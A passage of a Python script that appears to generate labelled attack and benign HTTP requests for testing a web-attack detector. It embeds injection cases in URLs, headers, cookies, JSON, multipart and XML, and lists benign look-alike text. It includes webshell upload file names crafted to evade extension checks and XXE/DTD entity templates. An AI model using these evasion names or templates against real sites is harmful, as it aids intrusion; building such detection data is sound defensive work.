                "xml_doc": "xml", "mp_xml": "multipart", "xml_xxe": "xml", "mp_svg": "multipart"}


def compatible(case, loc):
    t = case.text
    if case.locs is not None:
        if loc not in case.locs:
            return False
    if loc in SPECIAL_LOCS and loc != "path_abs":
        return case.locs is not None
    if case.raw:
        if loc in ("json", "multipart", "xml"):
            return False
        if not all(0x21 <= ord(c) < 0x7F for c in t):
            return False
        if loc in ("query", "form"):
            return set(t) <= QUERY_CHARS and "&" not in t
        if loc == "query_name":
            return set(t) <= QUERY_CHARS and not set(t) & set("&=")
        if loc == "path":
            return set(t) <= PATH_CHARS
        if loc == "path_abs":
            return set(t) <= PATH_CHARS and t.startswith("/")
        if loc == "cookie":
            return not set(t) & COOKIE_BAD
        return True  # header, user_agent, referer
    if loc in ("header", "user_agent"):
        return header_safe(t)
    if loc == "xml":
        return xml_chars_ok(t)
    if loc == "path_abs":
        return False
    return True


REFERER_BASES = ["https://www.example.com/search?q=", "https://shop.example.com/products?search=",
                 "https://app.example.com/dashboard?filter=", "https://www.example.com/index.php?page=",
                 "https://portal.example.com/view?id=1&next="]


def browser_query(s):
    """Percent-encode a query value the way a browser's address bar does (WHATWG special-query
    set: C0 controls, space, ", #, <, >, ' and non-ASCII); other metacharacters stay raw."""
    return "".join(c if (0x20 < ord(c) < 0x7F and c not in "\"#<>'") else pct(c) for c in s)


PHP_UPLOAD_NAMES = ["shell.php", "avatar.php.jpg", "x.phtml", "image.php5", "cmd.pHp", "logo.png.php", "a.php;.jpg",
                    "thumb.phar", "s.php%00.jpg", "photo.jpg"]


def place_attack(case, loc, rng):
    """Returns a request dict; an optional "_suffix" is appended to the case note."""
    c = CTX[case.cls]
    h = None
    if loc == "query":
        param = rng.choice(c["params"])
        v = qval(case, rng)
        pre = rng.choice(["", "", "page=1&", "lang=en&", "v=2&"])
        post = rng.choice(["", "", "&limit=20", "&format=json"])
        return req("GET", rng.choice(c["qpaths"]), pre + param + "=" + v + post, base_headers(rng))
    if loc == "query_name":
        name = case.text if case.raw else pct(case.text)
        return req("GET", rng.choice(c["qpaths"]), rng.choice(["", "page=2&"]) + name + "=1", base_headers(rng))
    if loc == "qs":
        return req("GET", rng.choice(c["qpaths"]), case.text, base_headers(rng))
    if loc == "form_qs":
        method, path, _field, _wrap = rng.choice(c["form"])
        return req(method, path, "", base_headers(rng), "application/x-www-form-urlencoded", case.text)
    if loc == "ctype":
        path = rng.choice(c["qpaths"])
        if case.text.startswith("multipart/"):
            b = case.text.split("boundary=", 1)[1]
            body = '--%s\r\nContent-Disposition: form-data; name="f"\r\n\r\nx\r\n--%s--\r\n' % (b, b)
        else:
            body = ""
        return req("POST", path, "", base_headers(rng), case.text, body)
    if loc == "path":
        tmpl = rng.choice(c["ppaths"])
        if case.raw:
            seg = case.text
        elif case.cls == "traversal" and not re.match(r"^(/|[A-Za-z]+:)", case.text):
            seg = pct(case.text, safe="/")
        else:
            seg = pct(case.text, safe="'()*,;=!:@$")
        method = "DELETE" if (case.cls == "sqli" and rng.random() < 0.2) else "GET"
        return req(method, tmpl.format(seg), "", base_headers(rng))
    if loc == "path_abs":
        return req("GET", case.text, "", base_headers(rng))
    if loc == "json":
        builders = c["json"]
        if isinstance(case.obj, list) and case.cls == "nosqli":
            builders = [b for b in builders if "aggregate" in b[1]]
        method, path, build = rng.choice(builders)
        ct = rng.choice(["application/json", "application/json", "application/json; charset=utf-8"])
        value = case.obj if case.obj is not None else case.text
        return req(method, path, "", base_headers(rng), ct, json_body(build(value), rng, case.jesc))
    if loc == "form":
        method, path, field, wrap = rng.choice(c["form"])
        return req(method, path, "", base_headers(rng), "application/x-www-form-urlencoded",
                   wrap(field + "=" + (case.text if case.raw else pct_plus(case.text))))
    if loc == "multipart":
        method, path, field = rng.choice(c["mp"])
        suffix = None
        if case.cls == "traversal" and rng.random() < 0.7:
            fields = [("title", "holiday photos", None, None),
                      (field, "hello world\n", case.text, "application/octet-stream")]
        elif case.cls == "php" and case.text.lstrip().startswith("<?") and rng.random() < 0.7:
            fields = [("name", "profile picture", None, None),
                      ("file", case.text + "\n", rng.choice(PHP_UPLOAD_NAMES), rng.choice(["image/jpeg", "image/png", "application/x-php"]))]
            suffix = "; uploaded as a file (webshell)"
        else:
            fields = [(field, case.text, None, None),
                      ("file", "id,name\n1,Alice\n", "data.csv", "text/csv")]
        ct, body = multipart_body(rng, fields)
        r = req(method, path, "", base_headers(rng), ct, body)
        if suffix:
            r["_suffix"] = suffix
        return r
    if loc == "xml":
        path, op, field = rng.choice(c["xml"])
        suffix, doctype = None, None
        r_ = rng.random()
        if not case.xesc and len(case.text) >= 6 and r_ < 0.08 and "]]>" not in case.text and "\r" not in case.text:
            inner, _ = xml_field(rng, field, case.text, mode="cdata_split")
            suffix = "; split across two CDATA sections"
        elif not case.xesc and len(case.text) >= 6 and r_ < 0.14:
            ent = xml_entity_value(case.text)
            doctype = lambda root: '<!DOCTYPE %s [<!ENTITY p "%s">]>\n' % (root, ent)
            inner = "<%s>&p;</%s>" % (field, field)
            suffix = "; carried by an internal DTD entity"
        else:
            inner, mode = xml_field(rng, field, case.text, case.xesc)
        ct, body, hdrs = xml_wrap(rng, op, inner, doctype=doctype)
        method = rng.choice(["POST", "POST", "POST", "PUT"])
        r = req(method, path, "", base_headers(rng, extra=hdrs), ct, body)
        if suffix:
            r["_suffix"] = suffix
        return r
    if loc == "xml_doc":
        path = rng.choice(c["xml"])[0] if "xml" in c else "/api/import.xml"
        hdrs = [("SOAPAction", '""')] if SOAP11_NS in case.text else []
        ct = "text/xml; charset=utf-8" if hdrs else rng.choice(["application/xml", "text/xml", "application/xml; charset=UTF-8"])
        if "<svg" in case.text[:80]:
            ct = "image/svg+xml"
        return req("POST", path, "", base_headers(rng, extra=hdrs), ct, case.text)
    if loc == "mp_xml":
        path = rng.choice(["/api/import", "/api/v1/documents", "/upload"])
        name = "image.svg" if "<svg" in case.text[:80] else rng.choice(["import.xml", "config.xml", "feed.xml", "data.xml"])
        ctype = "image/svg+xml" if name.endswith(".svg") else rng.choice(["application/xml", "text/xml"])
        ct, body = multipart_body(rng, [("kind", "import", None, None), ("file", case.text, name, ctype)])
        return req("POST", path, "", base_headers(rng), ct, body)
    if loc == "xml_xxe":
        path, op, field = rng.choice(c.get("xml") or CTX["traversal"]["xml"])
        subset, ext = case.text, case.ext

        def doctype(root):
            return "<!DOCTYPE %s%s%s>\n" % (root, " " + ext if ext else "", " [%s]" % subset if subset else "")
        ct, body, hdrs = xml_wrap(rng, op, "<%s>%s</%s>" % (field, case.ref, field), doctype=doctype)
        return req(rng.choice(["POST", "POST", "PUT"]), path, "", base_headers(rng, extra=hdrs), ct, body)
    if loc == "mp_svg":
        dt = "<!DOCTYPE svg%s%s>" % (" " + case.ext if case.ext else "", " [%s]" % case.text if case.text else "")
        svg = ('<?xml version="1.0" encoding="UTF-8"?>\n%s\n<svg xmlns="http://www.w3.org/2000/svg" width="128" height="128">'
               '<text x="8" y="64">%s</text></svg>\n' % (dt, case.ref))
        ct, body = multipart_body(rng, [("title", "new avatar", None, None), ("avatar", svg, "avatar.svg", "image/svg+xml")])
        r = req("POST", rng.choice(["/api/users/me/avatar", "/upload", "/api/media"]), "", base_headers(rng), ct, body)
        r["_suffix"] = "; in an uploaded SVG"
        return r
    if loc == "header":
        name = rng.choice(c["headers"])
        return req("GET", rng.choice(c["qpaths"]), "", base_headers(rng, extra=[(name, case.text)]))
    if loc == "user_agent":
        k = rng.random()
        if case.raw or k < 0.45:
            ua = case.text
        elif k < 0.75:
            ua = "Mozilla/5.0 " + case.text
        else:
            ua = rng.choice(BROWSER_UAS) + " " + case.text
        return req(rng.choice(["GET", "GET", "POST"]), rng.choice(["/", "/api/status", "/index.html", "/cgi-bin/test.cgi"]),
                   "", base_headers(rng, ua=ua))
    if loc == "referer":
        base = rng.choice(REFERER_BASES)
        if case.raw:
            ref = base + case.text
        elif header_safe(case.text) and case.text.startswith("http") and " " not in case.text and rng.random() < 0.5:
            ref = case.text  # the payload is itself a URL (ssrf/rfi): sent as the whole Referer
        else:
            enc = rng.choice([pct, pct_plus, browser_query])
            ref = base + enc(case.text)
        return req("GET", rng.choice(c["qpaths"]), "", base_headers(rng, extra=[("Referer", ref)]))
    if loc == "cookie":
        name = rng.choice(c["cookies"])
        v = case.text if case.raw else cookie_value(case.text)
        ck = "session=%s; %s=%s" % (rand_token(rng), name, v)
        if rng.random() < 0.3:
            ck += "; theme=dark"
        return req("GET", rng.choice(c["qpaths"]), "", base_headers(rng, extra=[("Cookie", ck)]))
    raise ValueError(loc)


def loc_label(loc, case):
    if loc in SPECIAL_LOCS:
        return SPECIAL_LOCS[loc] or case.label
    return loc


def build_attacks(rng):
    cases = build_cases(rng)
    out = []
    for cls in CLASSES:
        weights = CTX[cls]["weights"]
        used = collections.defaultdict(set)  # case index -> locations used
        rows = []

        def pick(i, case):
            pool = list(weights)
            if case.locs is not None and any(l not in weights for l in case.locs):
                pool = list(case.locs)
            cand = [l for l in pool if l not in used[i] and compatible(case, l)]
            if not cand:
                return None
            return rng.choices(cand, weights=[weights.get(l, 5) for l in cand])[0]

        order = list(range(len(cases[cls])))
        rounds = 0
        while len(rows) < TARGETS[cls] and rounds < 6:
            if rounds:
                rng.shuffle(order)
            for i in order:
                if len(rows) >= TARGETS[cls] and rounds:
                    break
                case = cases[cls][i]
                loc = pick(i, case)
                if loc is None:
                    continue
                used[i].add(loc)
                r = place_attack(case, loc, rng)
                note = case.note + r.pop("_suffix", "")
                r.update(cls=cls, location=loc_label(loc, case), note=note, _base=case.base, _raw=case.raw)
                rows.append(r)
            rounds += 1
        out.extend(rows)
    return out


# ---------------------------------------------------------------------------
# 4. Benign values and placement
# ---------------------------------------------------------------------------
# Values are (text) or (text, note).  Notes starting with "grey:" mark grey-zone
# cases (see README "Label policy"); they are still labelled benign.

B_NAMES = [
    "O'Brien", "Siobhan O'Brien", "D'Angelo Russell", "Conan O'Neil", "Anna D'Souza",
    "Mary-Kate O'Connor", "N'Golo Kanté", "Le'Veon Bell", "Jean-Luc Picard", "María José García-López",
    "Zoë Saldaña", "Nguyễn Văn An", "山田 太郎", "محمد أحمد", "Иван Петров", "Björk Guðmundsdóttir",
    'Dwayne "The Rock" Johnson', "Ngũgĩ wa Thiong'o", "O'Reilly Media", "Miles O'Keeffe", "D'Arcy McGee",
    "Sinéad O'Connor", "José Ñúñez", "Søren Kierkegaard", "Łukasz Żółć", "Kim Min-jun (김민준)",
    "Dr. Amélie D'Artagnan-Smith, PhD", "St. John's Wort Ltd.", "Ben & Jerry's", "Toys\"R\"Us",
]

B_PROSE_SQL = [
    "Please select your preferred delivery date.", "Don't drop the ball on this one!",
    "I'd like to delete my account and all my data, please.", "Union Station is two blocks north of the hotel.",
    "Update: the meeting moved to 3pm; bring your laptop.", "Insert tab A into slot B, then tighten the screws.",
    "Where are my orders from last week?", "Join us for drinks after work on Friday.", "Select all that apply:",
    "The union voted to accept the new contract.", "Drop-off is at the front desk between 9 and 5.",
    "Table for two, please, near the window.", "Order by Friday to get free shipping.",
    "Is it 1 or 2 tickets for Saturday?", "You can choose plan A or 1 of the add-ons.",
    "It's 5 o'clock somewhere.", "We're open late; come by anytime after 6.", "Let's grab coffee -- my treat.",
    ("How do I join two tables?", "SQL question in prose"),
    ("What's the difference between UNION and UNION ALL?", "grey: SQL keywords in a question"),
    ("Can someone explain what SQL injection is and how to prevent it?", "prose about SQL injection"),
    "Having two kids and a dog, we need a bigger car.", "The delete key on my keyboard is stuck.",
    "Grant and Sarah will sign the lease tomorrow.", "Please don't truncate the description field.",
    "I sleep 5 hours a night and I'm exhausted.", "Running a benchmark of the new laptop tonight.",
    "Wait for the delay announcement before boarding.", "The cast includes O'Toole and D'Onofrio.",
    "Where do I find the 'Select' button? It's greyed out.",
    "Updated the 'drop' date to 2024-06-01 -- please confirm.",
    "Null and void: the old contract no longer applies.", "Version 2.0 adds a 'Delete all' option.",
    "Ticket #4521: user can't select 'Other' from the dropdown", "Tables, chairs and a sofa are included.",
    "'Sure,' she said, 'why not?'", "He's 6'2\" and plays center.", "Rock 'n' roll will never die.",
    "I'll be there at 7 -- or 8 at the latest.", "Is the limit 1 per customer?", "Case closed; moving on.",
    "Select Comfort mattress, queen size, like new", "where is the nearest union bank branch",
    "Can't login: it says 'user not found' or 'wrong password'", "The 'Order by date' sort doesn't work",
    "I want to insert a photo into my document", "Exec summary attached; numbers are final.",
    "Either 1 or 2 is fine with me.", "Cancel order #1042 or 1043, whichever shipped later.",
    "Choose 'Yes' or 'No'", "Values like 'N/A' or '-' mean unknown.",
]

B_PROSE_HTMLISH = [
    "Set an alert for 7am tomorrow.", "Alert: your package has shipped!", "The script for episode 3 is ready for review.",
    "I love JavaScript and TypeScript.", "Our script supervisor flagged a continuity error.",
    ("JavaScript: The Good Parts by Douglas Crockford", "grey: book title contains 'JavaScript:'"),
    ("The onload handler fires after all images are loaded.", "grey: event-handler name in prose, no '='"),
    ("I <3 this place!", "less-than in emoticon"), ("a<b and b>c", "math with < and >"), ("100 < 200", "comparison"),
    "if x < 10 and y > 5 then z = 1", "x => x * 2", "Step 1 -> Step 2 -> Done", "3 > 2 > 1",
    "Temperature range: -5 < t < 30", "Press Ctrl+Alt+Del to restart", "Cookies & cream ice cream",
    "The 'src' folder contains the source code", "He said \"hi\" and left.", "My cat's name is Script",
    "Evaluate 7*7 in your head.", "Is 2*3=6? Yes.", "Please prompt me before deleting anything",
    "Confirm your email address to continue.", "Document.docx and document.pdf are attached",
    "Open the window, the room is hot.", "Error: document not found (code 404)",
    ("Hello {{first_name}}, your order has shipped.", "grey: mustache placeholder without expression"),
    ("Use {{order_id}} in the email subject line.", "grey: mustache placeholder without expression"),
    ("Dear {name}, thanks for your purchase.", "format-string placeholder"),
    "<- back to the list", "i <3 rust <3", "Rating: 5/5 >>> would buy again",
]

B_PROSE_SHELLISH = [
    "rock & roll", "Tom & Jerry", "I came; I saw; I conquered.", "Pricing: $5/month | $50/year",
    ("Run `npm install` and then `npm test`.", "backticks: markdown inline code"),
    "ping me when you're back online", "cat videos are the best part of the internet",
    "Your user id is printed on the back of the card.", "Q&A session at 3pm; snacks provided.",
    "AT&T and T-Mobile both have coverage here.", "50% off everything this weekend!",
    "me & you; always & forever", "Use a pipe (|) to separate the values.", "Salt & pepper, to taste.",
    "R&D spent $1.2M in Q3.", "The total is $5 -- or $4.50 with a coupon.", "It costs $$ but it's worth it",
    "Who am I? A question for philosophers.", "Sleep well; see you tomorrow!",
    "Tag your posts with #rust & #webdev", "Wget is a download tool; so is curl.",
    ("I use `git status` before every commit.", "backticks: markdown inline code"),
    ("Type `cargo build --release` in the terminal.", "backticks: markdown inline code"),
    ("Is `ls -la` the same as `ls -al`?", "grey: shell command in markdown inline code"),
    "Johnson & Johnson", "fish & chips; mushy peas on the side", "Mac & cheese | Garlic bread | Salad",
    "Save 10% when you spend $50+", "5 * 3 = 15", "The | character is called a pipe.",
    "Backtick (`) is next to the 1 key.", "~/Documents is where I keep my notes", "C# and F# are both .NET languages",
    "Tonight: 8pm; Tomorrow: 9am", "Yes!!! We won!!!", "Meet at 5 & bring snacks",
    "Costs $20 (was $25)", "Price: $5 per item; $4 for members", "A|B testing results are in",
    "The sum of $x$ and $y$ is shown in eq. (3)", "Open 9-5 Mon-Fri; closed weekends",
]

B_PATHISH = [
    ("docs/guide.md", "relative path without .."), ("src/main.rs", "relative path"),
    ("assets/img/logo.png", "relative path"), ("./config.yaml", "dot-slash relative path"),
    ("reports/2024/q1/summary.csv", "relative path"), ("report-2024.pdf", "file name"),
    ("IMG_2024-01-15_093012.jpg", "file name"), ("my résumé (final) v2.docx", "file name with accents and parens"),
    ("Q3 results; draft 3.xlsx", "file name with semicolon"), ("backup_2024-03-01.sql.gz", "file name with .sql"),
    ("photo (1).jpeg", "file name"), ("archive.tar.gz", "file name"), ("index.html", "file name"),
    ("Wait... what?", "ellipsis"), ("Loading..", "double dot"), ("Changes in v1.2..v1.4", "git-style range"),
    ("main..feature-branch", "git range"), ("Range: 1..10", "range with .."),
    ("My C: drive is almost full.", "Windows drive letter in prose"), ("Save it to the D: drive, not C:.", "Windows drive in prose"),
    ("Install it under C:\\Program Files\\Example App", "grey: Windows path in support prose (not a system file)"),
    ("The app log is in logs/app.log next to the binary", "relative path in prose"),
    ("See section 3.2.1 for details", "dotted numbers"), ("Home > Settings > Privacy", "breadcrumb"),
    ("etc. etc.", "etc in prose"), ("node_modules/.bin/eslint", "relative path with dot dir"),
    (".github/workflows/ci.yml", "dot directory"), ("~/.config/app/settings.json", "home-relative path"),
]

B_SEARCH = [
    "rock & roll", "c++ vs c#", "50% off", "100 < 200", "fish and chips", "mac & cheese recipe", "h&m jeans",
    "\"exact phrase\" search", "cats OR dogs", "title:report AND author:smith", "-spam +eggs", "café near me",
    "naïve bayes", "日本語 入力", "ラーメン 東京", "книги по программированию", "مطعم قريب", "🎉 party supplies",
    "1/2 cup sugar to grams", "24/7 pharmacy", "x^2 + y^2 = r^2", "e=mc^2", "what is 7*7", "1+1", "a+b=c",
    "#hashtag", "@mention", "pc; laptop; tablet", "size:10.5 color:red", "price<100", "price>=50",
    "o'reilly books", "don't stop believin'", "100% cotton t-shirt", "how to select a laptop",
    "drop shipping business", "union jack flag", "delete facebook account", "script writing course",
    "alert sound settings", "javascript tutorial for beginners", "path of exile", "ping pong table",
    "shell beach", "sleep apnea", "benchmark gpu 2024", "where is my order", "or 1 more thing",
    "a && b meaning", "what does || mean in js", "$5 gift card", "50/50 raffle", "? and ! usage",
]

B_CODE = [
    ("for (i = 0; i < n; i++) { total += a[i]; }", "code: C loop"),
    ("if (a < b && b > c) { return true; }", "code: comparison with &&"),
    ("def add(a, b):\n    return a + b\n", "code: python"),
    ('fn main() {\n    println!("Hello, world!");\n}\n', "code: rust"),
    ("const doubled = items.map(x => x * 2);", "code: JS arrow"),
    ("let total = price * qty; // includes tax", "code: JS"), ('std::cout << "hi" << std::endl;', "code: C++ stream"),
    ("x = y || z;", "code: JS or"), ("while (queue.length > 0) { process(queue.shift()); }", "code: JS loop"),
    ("public static void main(String[] args) { }", "code: Java"),
    ("body { margin: 0; } /* reset */", "grey: CSS with /* comment */"),
    ("const url = `${base}/users/${id}`;", "grey: JS template literal placeholders"),
    ("git checkout -b feature/login && git push -u origin feature/login", "grey: shell snippet with && (git)"),
    ("import os\nprint(os.getcwd())", "code: python"),
    ('<div class="card">Hello</div>', "grey: harmless HTML markup"),
    ("<p>Thanks for the <b>quick</b> reply!</p>", "grey: rich-text formatting HTML"),
    ('<a href="https://example.com/docs">docs</a>', "grey: link markup with https URL"),
    ("match x { Some(v) => v, None => 0 }", "code: rust match"), ("val result = list.filter { it > 3 }", "code: kotlin"),
    ('printf("%d%%\\n", pct);', "code: literal % in printf"), ("array[0] = value; array[1] = other;", "code"),
    ("SELECT_ALL_KEY = 'ctrl+a'", "code: constant name contains SELECT"),
    ("x -= 1; y += 2; z *= 3;", "code: compound assignment"), ("let re = /^[a-z]+$/i;", "code: regex"),
]

B_MARKDOWN = [
    "## Steps to reproduce\n1. Open the app\n2. Click **Save**\n3. See error\n",
    "```js\nconst sum = (a, b) => a + b;\nconsole.log(sum(1, 2));\n```",
    "```python\nfor i in range(10):\n    print(i)\n```",
    "| Name | Qty | Price |\n|------|-----|-------|\n| Apple | 3 | $1.50 |\n| Pear | 2 | $0.99 |",
    "Use `git log --oneline` to see recent commits.", "> Quote from the docs: \"Always validate input.\"",
    "- [x] write tests\n- [ ] update changelog",
    "See [the guide](https://example.com/docs/guide?section=2&lang=en) for details.",
    "**Note:** the `--force` flag is dangerous; use `--force-with-lease`.",
    '![diagram](https://cdn.example.com/img/arch.png "Architecture")',
    ("Inline code like `a | b` and `x && y` is fine.", "grey: shell-like operators in inline code"),
    "# Release notes\n\n* Fixed crash when the name contains an apostrophe (O'Brien)\n* Improved search for \"c++\"",
    "Footnote[^1]\n\n[^1]: See page 42.", "~~strikethrough~~ and __bold__",
    "1. First\n2. Second; with a semicolon\n3. Third | with a pipe",
    "| Key | Value |\n|---|---|\n| a | 1 |\n| b | 2 |",
    "```\n$ npm run build\n> app@1.0.0 build\n```", "Ctrl+C, then `Ctrl+V` -- easy.",
]

B_ESCAPED = [
    "Tom &amp; Jerry", "5 &lt; 10 and 10 &gt; 5", "&quot;Hello,&quot; she said.", "Caf&eacute; au lait",
    "&copy; 2024 Example Inc. All rights reserved.", "it&#39;s fine", ("&lt;b&gt;Note:&lt;/b&gt; read carefully", "escaped formatting tag"),
    "Fish &amp; Chips &mdash; &pound;9.50", "R&amp;D budget", "&nbsp;&nbsp;indented", "2 &times; 3 = 6",
    "&#8364;20 per person", "O&#39;Brien &amp; Sons", "&lt;3 you",
]

B_UNICODE = [
    "こんにちは世界", "東京タワーに行きたい", "مرحبا بالعالم", "Привет, мир!", "Γειά σου Κόσμε", "שלום עולם",
    "你好，世界", "안녕하세요", "🎉🎂 Happy birthday! 🥳", "👍🏽 looks good to me", "🇩🇪 🇯🇵 🇧🇷", "Ünïcödé ƒüñ",
    ("ｆｕｌｌｗｉｄｔｈ　ｔｅｘｔ", "full-width letters (NFKC to ASCII)"), ("全角スペース　を含む", "ideographic space"),
    ("１２３４５ 番地", "full-width digits"), ("Ｑ＆Ａ セッション", "full-width ampersand"), ("（株）サンプル", "full-width parens"),
    "e\u0301 combining accent", "½ cup", "25℃", "™ ® ©", "ﬁnance ligature", "Ελληνικά; ερωτηματικό",
    "Москва — столица России", "قائمة: أ، ب، ج", "日本語のテキスト；句読点", "नमस्ते दुनिया", "สวัสดีครับ",
]

B_MULTILINE = [
    ("Line one\nLine two", "multi-line text"), ("Dear team,\r\n\r\nPlease find the report attached.\r\n\r\nBest regards,\r\nAnna", "textarea CRLF line breaks"),
    ("Shopping list:\n- milk\n- eggs\n- bread", "multi-line list"), ("Roses are red\nViolets are blue", "multi-line"),
    ("First paragraph.\n\nSecond paragraph with more detail.", "paragraphs"),
    ("Address\r\n221B Baker Street\r\nLondon NW1 6XE", "textarea CRLF address"),
    ("Hi,\r\nthanks for the quick reply.\r\ncheers", "textarea CRLF"), ("a\tb\tc\n1\t2\t3", "TSV with tabs"),
]


def structured_values(rng):
    vals = []
    for d in ["2024-01-15", "2024-01-15T09:30:00Z", "2024-06-30T23:59:59.999+02:00", "2023-12-31T00:00:00-05:00",
              "15/01/2024", "Jan 15, 2024", "2024-W03", "P1DT12H"]:
        vals.append((d, "date/time"))
    for _ in range(6):
        vals.append((rand_uuid(rng), "UUID"))
    for _ in range(4):
        vals.append((make_jwt(rng), "JWT-looking token"))
    for p in ["+1 (555) 123-4567", "+44 20 7946 0958", "+49 30 123456-78", "555.123.4567", "+81 3-1234-5678", "(02) 9876 5432"]:
        vals.append((p, "phone number"))
    for p in ["$5", "$1,299.99", "€20,00", "£15.50", "¥1000", "USD 49.99", "-$20.00 (refund)", "$0.99/mo"]:
        vals.append((p, "price"))
    for e in ["alice@example.com", "alice+newsletter@example.com", "bob.smith+shop@mail.example.org",
              "first.last@sub.example.co.uk", "user_123@example.io", "jürgen@müller.example"]:
        vals.append((e, "email"))
    vals.append(("o'reilly@example.com", "grey: apostrophe in email local part (valid per RFC 5322)"))
    for u in ["https://example.com/search?q=hello%20world&lang=en", "https://en.wikipedia.org/wiki/Caf%C3%A9",
              "https://app.example.com/callback?code=abc123&state=xyz", "https://www.google.com/maps/@52.52,13.405,15z",
              "https://example.com/path/to/page#section-2", "https://shop.example.com/p/sku-12345?utm_source=newsletter&utm_medium=email",
              "mailto:alice@example.com?subject=Hello%20there", "tel:+15551234567",
              "https://example.com/files/report%202024.pdf", "https://example.com/?a[]=1&a[]=2"]:
        vals.append((u, "URL with encoded characters"))
    for n in (12, 24, 48, 96):
        vals.append((base64.b64encode(bytes(rng.getrandbits(8) for _ in range(n))).decode(), "base64 random bytes"))
    for obj in ({"user": "alice", "role": "editor"}, {"cart": [1, 2, 3], "coupon": "SAVE10"}, {"q": "O'Brien", "page": 2}):
        raw = json.dumps(obj).encode()
        vals.append((base64.b64encode(raw).decode(), "base64 of JSON"))
        vals.append((base64.urlsafe_b64encode(raw).decode().rstrip("="), "base64url of JSON"))
    for v in ["3.14159", "-42", "1e-9", "0x1F", "#ff8800", "rgb(255, 136, 0)", "v2.3.1-beta+exp.sha.5114f85", "ISBN 978-3-16-148410-0"]:
        vals.append((v, "number/identifier"))
    return vals


def b64url(b):
    return base64.urlsafe_b64encode(b).decode().rstrip("=")


def make_jwt(rng):
    head = b64url(json.dumps({"alg": "HS256", "typ": "JWT"}, separators=(",", ":")).encode())
    body = b64url(json.dumps({"sub": str(rng.randint(1000, 99999)), "name": rng.choice(["Alice", "O'Brien", "José"]),
                              "iat": 1700000000 + rng.randint(0, 10 ** 7)}, separators=(",", ":")).encode())
    sig = b64url(bytes(rng.getrandbits(8) for _ in range(32)))
    return "%s.%s.%s" % (head, body, sig)


# ----- More benign values (placed like the lists above: JSON plus three other locations) ----

B_NAMES_WORLD = [
    "O'Connor", "Aoife O'Sullivan-Murphy", "D'Alessandro", "Gianluca D'Alessandro", "N'Diaye", "Fatou N'Diaye",
    "Ngũgĩ wa Thiong'o", "Øystein Ødegård", "Zoë Kravitz", "François Hollande", "İbrahim Çelik", "Şükrü Saraçoğlu",
    "山田太郎", "佐藤 花子", "Мария Иванова", "محمد بن سلمان", "Nasrin D'Souza", "L'Oréal Paris", "Shaquille O'Neal",
    "Ta'Nehisi Coates", "Mo'Nique", "Kealoha Ka'ahumanu", "D'Artagnan", "J'Lyn O'Hara", "Ólafur Arnalds", "Mäkelä, Jari",
    "van 't Hof", "de l'Estoile", "Dell'Acqua", "Sant'Angelo", "Ibn Khaldūn", "Nguyễn Thị Minh Khai", "Nnamdi Azikiwe-O'Neill",
    "Wałęsa, Lech", "Dvořák, Antonín", "Hernández-O'Brien, José Luis", "Renée & Zoë", "\"Bobby\" O'Malley",
    "Dr. med. Jürgen Groß", "Sr. Ramón Ñíguez", "Sven-Göran Eriksson", "Aída Hernández (she/her)", "李小龙 (Bruce Lee)",
    "Κωνσταντίνος Παπαδόπουλος", "राहुल द्रविड़", "Thị Hồng O'Neil",
]

B_ADDRESSES = [
    "221B Baker St, London NW1 6XE", "1600 Amphitheatre Pkwy, Mountain View, CA 94043", "Apt. 4B, 350 5th Ave, New York, NY 10118",
    "Unit #12, 45 King's Road", "c/o Acme Corp, P.O. Box 123", "Flat 3/2, 14 O'Connell Street, Dublin 1",
    "12 Rue de l'Église, 75001 Paris", "Calle Mayor 3, 2º izq., 28013 Madrid", "Via dell'Indipendenza 21/B, 40121 Bologna",
    "Hauptstraße 5 / Hinterhaus, 10115 Berlin", "Rua Dr. João Sá, nº 150 - apto 32, São Paulo - SP", "Ul. Marszałkowska 10/12 m. 5, Warszawa",
    "Bağdat Cad. No:12 D:4, Kadıköy/İstanbul", "東京都千代田区千代田1-1", "Москва, ул. Тверская, д. 7, кв. 12",
    "PO Box 55 & 56, Kingston", "Suite 500 - Building #3, 1 Infinite Loop", "Rm 1203, 12/F, Tower 2 & 3, Hong Kong",
    "Lot 7, Rte 66 (near the old gas station)", "Building A; Floor 2; Desk 14", "3-5 Smith & Sons Lane", "Block 7 #04-12, Singapore 560007",
    "Att'n: Receiving Dept., Dock 4", "Postfach 10 01 01, 53001 Bonn", "Keizersgracht 123-II, 1015 CJ Amsterdam",
]

B_PROSE_WORLD = [
    ("Please select the right size from the table below and drop us a note if unsure.", "prose (en) with select/drop/table"),
    ("We'll update the order from our side; where it's shipped from depends on stock.", "prose (en) with update/order/from/where"),
    ("The union meeting runs from 6 to 8, and drinks are on the house or on me.", "prose (en) with union/and/or"),
    ("Bitte wählen Sie (select) eine Option aus der Tabelle; die Bestellung (order) folgt.", "prose (de)"),
    ("Wir haben das System aktualisiert und die alte Tabelle gelöscht.", "prose (de)"),
    ("Sélectionnez l'option « union » dans le menu, puis cliquez sur « exécuter ».", "prose (fr) with apostrophes"),
    ("J'ai commandé deux tables et une chaise ; où est ma commande ?", "prose (fr)"),
    ("Seleccione una opción y pulse «ejecutar»; el sistema guardará la tabla.", "prose (es)"),
    ("¿Dónde está mi pedido? Lo ordené el lunes y aún no llega.", "prose (es)"),
    ("Selecione o produto e clique em 'executar' para atualizar o sistema.", "prose (pt)"),
    ("Não consigo apagar (drop) a tabela antiga do meu relatório.", "prose (pt)"),
    ("Seleziona l'ordine dalla tabella e premi 'esegui'; dov'è il pulsante?", "prose (it) with apostrophes"),
    ("Selecteer een tabel en klik op 'uitvoeren'; de order komt morgen.", "prose (nl)"),
    ("Proszę wybrać (select) zamówienie z tabeli i kliknąć 'wykonaj'.", "prose (pl)"),
    ("Sistemi güncelledik; sipariş tablosundan 'select' seçeneğini kullanın.", "prose (tr)"),
    ("Пожалуйста, выберите (select) таблицу и нажмите «выполнить»; заказ будет обновлён.", "prose (ru)"),
    ("注文（order）の一覧から商品を選択（select）して、システムを更新してください。", "prose (ja)"),
    ("请从表格（table）中选择（select）订单，然后点击“执行”。", "prose (zh)"),
    ("يرجى اختيار (select) الطلب من الجدول ثم الضغط على «تنفيذ».", "prose (ar)"),
    ("कृपया तालिका (table) से ऑर्डर चुनें (select) और 'execute' दबाएँ।", "prose (hi)"),
    ("Our script team and the system admins will drop by; order pizza or sandwiches.", "prose (en) with script/system/drop/order"),
    ("From where I stand, select members of the union and the board agree.", "prose (en)"),
    ("Exec team offsite: table 4, from 9 to 5, and dinner where we met last year.", "prose (en) with exec/table/from/where"),
    ("Drop me a line if the alert email doesn't arrive, or check the spam folder.", "prose (en) with drop/alert/or"),
    ("The system prompt said 'select a file'; I did, and nothing happened.", "prose (en) with system/select"),
